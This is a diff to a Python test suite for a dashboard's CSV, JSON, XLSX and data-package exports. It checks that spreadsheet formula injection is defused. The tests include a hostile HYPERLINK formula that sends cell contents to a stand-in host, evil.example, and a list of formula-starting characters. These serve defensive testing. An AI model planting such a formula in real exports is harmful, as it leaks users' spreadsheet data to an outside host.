@@ -4,15 +4,20 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import zipfile
+from pathlib import Path
 
 import pandas as pd
 import pytest
+from frictionless import Package, validate
 from hypothesis import given
 from hypothesis import strategies as st
 
-from dashboard.exports import as_csv, defused
+from dashboard.exports import Bundle, as_csv, as_zip, datapackage, defused
 
-STARTS = ("=", "+", "-", "@", "\t", "\r")
+STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Talks")'
 
 
 @pytest.mark.parametrize("start", STARTS)
@@ -25,9 +30,73 @@ def test_anything_else_stays_as_it_is(value: object) -> None:
     assert defused(value) == value
 
 
+@pytest.mark.parametrize(
+    ("value", "safe"),
+    [
+        ("Talks;=1+1", "Talks;'=1+1"),
+        ("Talks; @SUM(A1)", "Talks; '@SUM(A1)"),
+        ('Talks;"=1+1"', 'Talks;"\'=1+1"'),
+        ("Talks\n-1+1", "Talks\n'-1+1"),
+        ("Talks\t=1", "Talks\t'=1"),
+        ("Space; the – final – frontier", "Space; the – final – frontier"),
+        ("two-fold; self-defence", "two-fold; self-defence"),
+    ],
+)
+def test_a_cell_that_only_another_separator_would_start_is_defused_too(
+    value: str, safe: str
+) -> None:
+    assert defused(value) == safe
+
+
+def test_a_hostile_title_runs_in_no_file_of_the_zip() -> None:
+    frame = pd.DataFrame({"title": [HOSTILE], "nations": [("=1+1", "USA")]})
+    files = zipped(frame)
+    assert b"'=HYPERLINK" in files["events.csv"]
+    assert b"'=1+1; USA" in files["events.csv"]
+    assert json.loads(files["events.json"]) == [{"title": HOSTILE, "nations": ["=1+1", "USA"]}]
+    with zipfile.ZipFile(io.BytesIO(files["events.xlsx"])) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml")
+        assert b"<f>" not in sheet
+        assert b"hyperlink" not in sheet
+        assert b"HYPERLINK" in book.read("xl/sharedStrings.xml")
+
+
+def test_the_zip_is_a_valid_data_package_whose_lists_are_lists(tmp_path: Path) -> None:
+    frame = pd.DataFrame({
+        "title": ["Talks", HOSTILE], "nations": [("FRA", "USA"), ()], "sources": [2, 1],
+        "day": pd.to_datetime(pd.Series(["2025-12-05", None])), "counts": [True, False],
+    })  # fmt: skip
+    for name, content in zipped(frame).items():
+        (tmp_path / name).write_bytes(content)
+    described = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
+    (resource,) = described["resources"]
+    assert {field["name"]: field["type"] for field in resource["schema"]["fields"]} == {
+        "title": "string", "nations": "list", "sources": "integer", "day": "date",
+        "counts": "boolean",
+    }  # fmt: skip
+    report = validate(tmp_path / "datapackage.json")
+    assert report.valid, report.flatten(["message"])
+    rows = Package(tmp_path / "datapackage.json").resources[0].read_rows()
+    assert rows[0]["nations"] == ["FRA", "USA"]
+
+
+def test_columns_of_a_table_say_what_they_mean() -> None:
+    bundle = Bundle("memberships", "Members", "x", "v", [], pd.DataFrame({"nation": ["FRA"]}))
+    (field,) = datapackage(bundle)["resources"][0]["schema"]["fields"]
+    assert field == {"name": "nation", "type": "string", "description": "ISO 3166-1 alpha-3"}
+
+
+def zipped(frame: pd.DataFrame) -> dict[str, bytes]:
+    """The files of the zip of a frame called `events`."""
+    bundle = Bundle("events", "Events", "http://x/?a=b", "v1", ["Ministry, “Talks”"], frame)
+    with zipfile.ZipFile(io.BytesIO(as_zip(bundle))) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
 def test_lists_are_joined_and_defused_as_one_cell() -> None:
     assert defused(("FRA", "USA")) == "FRA; USA"
     assert defused(["=1+1", "USA"]) == "'=1+1; USA"
+    assert defused(["USA", "=1+1"]) == "USA; '=1+1"
     assert defused(()) == ""
 
 
@@ -66,4 +135,4 @@ def test_no_cell_of_any_text_begins_a_formula(texts: list[str]) -> None:
     assert heading == ["text", "list", "n"]
     assert len(rows) == len(texts)
     assert not any(cell.startswith(STARTS) for row in rows for cell in row)
-    assert [row[0].removeprefix("'") for row in rows] == [text.removeprefix("'") for text in texts]
+    assert [row[0].replace("'", "") for row in rows] == [text.replace("'", "") for text in texts]
